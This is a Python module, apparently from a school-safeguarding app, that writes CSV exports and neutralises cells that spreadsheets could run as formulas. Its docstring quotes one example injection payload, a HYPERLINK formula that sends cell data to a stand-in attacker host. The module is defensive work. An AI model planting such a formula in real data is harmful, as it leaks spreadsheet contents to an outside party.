"""The one CSV writer every export uses: no cell can run as a spreadsheet formula (issue #12 point 9).

Exports carry text that people outside the school's staff chose: a name typed when accepting an
invitation, a learner's name from the MIS, a web address from a filter log. A spreadsheet treats a
cell starting with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return before one) as a
formula, so ``=HYPERLINK("https://evil.example/?"&A1, "Open")`` in a name would run on the DSL's
computer. Such a cell is written with a leading apostrophe, which spreadsheets show as text and
readers recognise. Numbers that Harbour itself computed are written as they are.

``harbour/core/tests/test_csv_export.py`` fails if any module writes CSV with ``csv.writer``
directly.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from decimal import Decimal
from typing import Any, Protocol

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


class _Writable(Protocol):
    def write(self, text: str, /) -> Any: ...


def neutralise(value: Any) -> str | int | float | Decimal:
    """One cell, safe to open in a spreadsheet."""
    if value is None:
        return ""
    if isinstance(value, int | float | Decimal) and not isinstance(value, bool):
        return value
    text = str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


class SafeWriter:
    """``csv.writer`` with every cell neutralised; ``writerow`` returns what the file returned."""

    def __init__(self, file: _Writable, **fmtparams: Any) -> None:
        self._writer = csv.writer(file, **fmtparams)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([neutralise(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(file: _Writable, **fmtparams: Any) -> SafeWriter:
    return SafeWriter(file, **fmtparams)
